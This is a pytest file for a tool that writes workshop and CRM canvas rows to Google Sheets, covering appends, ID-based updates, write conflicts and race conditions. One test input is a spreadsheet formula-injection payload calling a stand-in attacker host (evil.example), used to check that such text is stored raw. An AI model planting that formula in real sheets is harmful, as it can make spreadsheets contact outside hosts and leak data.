"""Writing to the Google Sheet: RAW appends with fresh IDs, updates by ID that never land on the wrong row."""

from __future__ import annotations

import pytest

from crmcanvas.core.shape import HEADER_SCAN_ROWS
from crmcanvas.sources.base import CellChange, RowNotFound, SourceError, WriteConflict
from crmcanvas.standin import StandIn
from tests.fixtures_sheets import CANVAS, make_source, standin_fixture  # noqa: F401  (provides `standin`)

CELL_WRITES = {"values.append", "values.update", "values.batchUpdate", "values.batchUpdateByDataFilter", "values.clear"}


def writes(server: StandIn) -> list[str]:
    """Requests that change cells (pinning a row with developer metadata changes none)."""
    return [r.kind for r in server.requests() if r.kind in CELL_WRITES]


@pytest.mark.parametrize("story", ['=IMPORTXML("https://evil.example","//a")', "+33 6 12 34 56 78", "-- à revoir", "@Claire à compléter"])
def test_an_appended_story_that_looks_like_a_formula_is_stored_as_text(standin, story):
    source = make_source(standin)
    result = source.append_row("besoins", {"Besoin": story, "Priorité": "Must"}, id_column="ID", id_prefix="B")
    assert standin.cell("besoins", result.row, "Besoin") == story
    assert not standin.is_formula("besoins", result.row, "Besoin")
    append = standin.requests("values.append")[0]
    assert append.query["valueInputOption"] == ["RAW"] and append.query["insertDataOption"] == ["INSERT_ROWS"]


def test_append_takes_the_next_free_id_as_the_sheet_is_at_write_time(standin):
    source = make_source(standin)
    source.read({"besoins": "besoins"})  # the app saw B001..B003
    standin.append_row("besoins", ["B010", "Ajouté par un participant pendant l'atelier"])
    result = source.append_row("besoins", {"Besoin": "Nouveau besoin saisi par l'animatrice", "Statut": "Nouveau"},
                               id_column="ID", id_prefix="B")
    assert result.row_id == "B011" and result.row == 7
    row = standin.grid("besoins")[result.row - 1]
    assert row[:2] == ["B011", "Nouveau besoin saisi par l'animatrice"] and row[7] == "Nouveau"
    assert standin.grid("besoins")[5][0] == "B010"  # the participant's row is untouched


def test_append_goes_under_the_table_when_a_title_row_sits_above_the_headers():
    with StandIn() as server:
        server.add_spreadsheet({"besoins": [["Canevas systémique – atelier du 12 mars"], [], ["ID", "Besoin", "Priorité"], ["B-01", "Voir les dons", "Must"]]})
        result = make_source(server).append_row("besoins", {"besoin": "Relancer", "PRIORITÉ": "Should"}, id_column="id", id_prefix="B")
        assert result.row_id == "B-02"
        assert server.grid("besoins") == [["Canevas systémique – atelier du 12 mars"], [], ["ID", "Besoin", "Priorité"],
                                          ["B-01", "Voir les dons", "Must"], ["B-02", "Relancer", "Should"]]


def test_append_with_an_unknown_column_writes_nothing_and_names_it(standin):
    with pytest.raises(SourceError, match="« Budget » introuvable"):
        make_source(standin).append_row("besoins", {"Besoin": "x", "Budget": "10 k€"})
    assert writes(standin) == []


def test_update_finds_the_row_by_id_after_stakeholders_inserted_and_sorted(standin):
    source = make_source(standin)
    standin.insert_row("besoins", 2, ["B900", "Inséré tout en haut par un participant"])
    standin.sort_rows("besoins", "Priorité")  # Could, Must, Should...
    result = source.update_cells("besoins", id_column="ID", row_id="B2", changes=[CellChange("statut", "Nouveau", "Qualifié")])
    rows = {r[0]: r for r in standin.grid("besoins")[1:] if r}
    assert rows["B002"][7] == "Qualifié"
    assert standin.grid("besoins")[result.row - 1][0] == "B002"
    assert rows["B003"][7] == "Nouveau" and rows["B001"][7] == "Validé"  # nobody else touched


def test_a_cell_changed_since_the_user_saw_it_is_a_conflict_showing_both_values_and_nothing_is_written(standin):
    source = make_source(standin)
    standin.set_cell("besoins", 3, "Statut", "Rejeté")  # a participant, meanwhile
    with pytest.raises(WriteConflict) as caught:
        source.update_cells("besoins", id_column="ID", row_id="B002",
                            changes=[CellChange("Statut", "Nouveau", "Validé"), CellChange("Lot", "", "Lot 2")])
    conflict = caught.value
    assert [(c.column, c.expected, c.actual, c.new) for c in conflict.conflicts] == [("Statut", "Nouveau", "Rejeté", "Validé")]
    assert "vous aviez vu « Nouveau »" in conflict.message and "« Rejeté »" in conflict.message and "Rien n'a été écrit" in conflict.message
    assert writes(standin) == []
    assert standin.grid("besoins")[2][7:] == ["Rejeté"]  # the lot was not written either


def test_updating_a_deleted_row_says_so(standin):
    standin.delete_row("besoins", 3)
    with pytest.raises(RowNotFound, match="Aucune ligne d'ID « B002 »"):
        make_source(standin).update_cells("besoins", id_column="ID", row_id="B002", changes=[CellChange("Statut", "Nouveau", "Validé")])


def test_duplicate_ids_are_refused_rather_than_guessed(standin):
    standin.set_cell("besoins", 5, "ID", "B-2")  # same ID as B002, other spelling
    with pytest.raises(SourceError, match="plusieurs lignes \\(3, 5\\)"):
        make_source(standin).update_cells("besoins", id_column="ID", row_id="B002", changes=[CellChange("Statut", "Nouveau", "Validé")])
    assert writes(standin) == []


def test_rows_inserted_during_the_write_round_trip_do_not_make_us_write_someone_elses_row(standin):
    source = make_source(standin)

    def participant(request):
        if request.kind == "values.batchUpdateByDataFilter":  # just before our write is served
            standin.insert_row("besoins", 2, ["B777", "Inséré pendant l'écriture", "", "", "", "", "Could", "Nouveau"])

    standin.on_request = participant
    source.update_cells("besoins", id_column="ID", row_id="B002", changes=[CellChange("Statut", "Nouveau", "Qualifié")])
    standin.on_request = None
    grid = standin.grid("besoins")
    assert grid[3][0] == "B002" and grid[3][7] == "Qualifié"
    assert grid[1][7] == "Nouveau" and grid[2][7] == "Validé"  # B777 and B001 untouched


def test_rows_moving_between_our_search_and_our_pin_are_detected_and_searched_again(standin):
    source = make_source(standin)
    moved = []

    def participant(request):
        if request.kind == "batchUpdate" and not moved:  # before the pin is attached: it will land on the wrong row
            standin.insert_row("besoins", 2, ["B555", "Inséré au mauvais moment", "", "", "", "", "Could", "Nouveau"])
            moved.append(True)

    standin.on_request = participant
    source.update_cells("besoins", id_column="ID", row_id="B002", changes=[CellChange("Statut", "Nouveau", "Qualifié")])
    standin.on_request = None
    rows = {r[0]: r for r in standin.grid("besoins")[1:] if r}
    assert rows["B002"][7] == "Qualifié" and rows["B555"][7] == "Nouveau" and rows["B001"][7] == "Validé"
    assert standin.count("batchUpdate") == 2  # pinned twice: the first pin was found on the wrong row


def test_no_write_when_the_value_is_already_there(standin):
    make_source(standin).update_cells("besoins", id_column="ID", row_id="B001", changes=[CellChange("Statut", "Validé", "Validé")])
    assert "values.batchUpdateByDataFilter" not in writes(standin)


def test_pins_do_not_pile_up_in_the_sheet(standin):
    source = make_source(standin)
    for row_id, old, new in [("B001", "Validé", "Livré"), ("B002", "Nouveau", "Validé"), ("B003", "Nouveau", "Qualifié"), ("B001", "Livré", "Validé")]:
        source.update_cells("besoins", id_column="ID", row_id=row_id, changes=[CellChange("Statut", old, new)])
    pins = [m for row in standin.sheet("besoins").rows for m in row.meta]
    assert len(pins) == 1


def test_assign_missing_ids_fills_only_empty_id_cells(standin):
    standin.set_cell("besoins", 4, "Besoin", "Besoin saisi sans ID")  # the blank middle row gets content, no ID
    standin.append_row("besoins", ["", "Autre besoin sans ID", "", "", "", "", "Should"])
    before = standin.grid("besoins")
    assigned = make_source(standin).assign_missing_ids("besoins", id_column="ID", id_prefix="B")
    assert assigned == [(4, "B004"), (6, "B005")]
    after = standin.grid("besoins")
    assert [r[0] for r in after[1:]] == ["B001", "B002", "B004", "B003", "B005"]
    assert [r[1:] for r in after] == [r[1:] for r in before]  # no other cell changed
    assert make_source(standin).assign_missing_ids("besoins", id_column="ID", id_prefix="B") == []


def test_assign_missing_ids_never_overwrites_an_id_typed_meanwhile(standin):
    standin.set_cell("besoins", 4, "Besoin", "Besoin saisi sans ID")

    def participant(request):
        if request.kind == "values.batchGetByDataFilter":
            standin.set_cell("besoins", 4, "ID", "B050")  # typed by hand just before our check

    standin.on_request = participant
    assert make_source(standin).assign_missing_ids("besoins", id_column="ID", id_prefix="B") == []
    standin.on_request = None
    assert standin.cell("besoins", 4, "ID") == "B050"


def test_every_canvas_tab_keeps_its_content_through_writes_elsewhere(standin):
    source = make_source(standin)
    source.append_row("besoins", {"Besoin": "x"}, id_column="ID", id_prefix="B")
    for title in ("enjeux", "données", "rôles"):
        assert standin.grid(title) == CANVAS[title]


def test_writing_reads_only_the_headers_and_the_id_column_even_when_ids_are_not_in_column_a():
    with StandIn() as server:
        server.add_spreadsheet({"besoins": [["Besoin", "Statut", "Réf."], ["Voir les dons", "Nouveau", "B-7"], ["Relancer", "Nouveau", "B-8"]]})
        source = make_source(server)
        source.update_cells("besoins", id_column="réf", row_id="B8", changes=[CellChange("Statut", "Nouveau", "Validé")])
        assert server.grid("besoins")[2] == ["Relancer", "Validé", "B-8"]
        result = source.append_row("besoins", {"Besoin": "Exporter"}, id_column="Réf.", id_prefix="B")
        assert result.row_id == "B-9" and server.grid("besoins")[3] == ["Exporter", "", "B-9"]
        reads = [(r.kind, r.range or r.query.get("ranges")) for r in server.requests() if r.kind in {"values.get", "values.batchGet"}]
        assert reads[0] == ("values.batchGet", [f"'besoins'!1:{HEADER_SCAN_ROWS}", "'besoins'!A:A"])
        assert reads[1] == ("values.get", "'besoins'!C:C")  # never the whole tab


def test_a_pin_removed_by_another_dashboard_mid_write_makes_us_look_again(standin):
    source = make_source(standin)
    removed = []

    def other_dashboard(request):
        if request.kind == "values.batchUpdateByDataFilter" and not removed:  # its own pin request drops every pin
            for row in standin.sheet("besoins").rows:
                row.meta.clear()
            removed.append(True)

    standin.on_request = other_dashboard
    source.update_cells("besoins", id_column="ID", row_id="B003", changes=[CellChange("Lot", "Lot 2", "Lot 3")])
    standin.on_request = None
    assert standin.grid("besoins")[4][8] == "Lot 3"
    assert standin.count("values.batchUpdateByDataFilter") == 2  # the first write matched no row, wrote nothing


def test_writes_from_two_sessions_of_one_server_never_interleave(standin):
    import threading

    sources = [make_source(standin), make_source(standin)]  # e.g. two browser sessions, two source objects
    jobs = [(sources[0], "B001", "Validé", "Livré"), (sources[1], "B002", "Nouveau", "Qualifié")]
    barrier = threading.Barrier(len(jobs))

    def run(source, row_id, old, new):
        barrier.wait()
        source.update_cells("besoins", id_column="ID", row_id=row_id, changes=[CellChange("Statut", old, new)])

    threads = [threading.Thread(target=run, args=job) for job in jobs]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert [r[7] for r in standin.grid("besoins")[1:3]] == ["Livré", "Qualifié"]
    kinds = [r.kind for r in standin.requests() if r.kind != "metadata"]
    one_update = ["values.batchGet", "batchUpdate", "values.batchGetByDataFilter", "values.batchUpdateByDataFilter"]
    assert kinds == one_update * 2  # one whole update, then the other
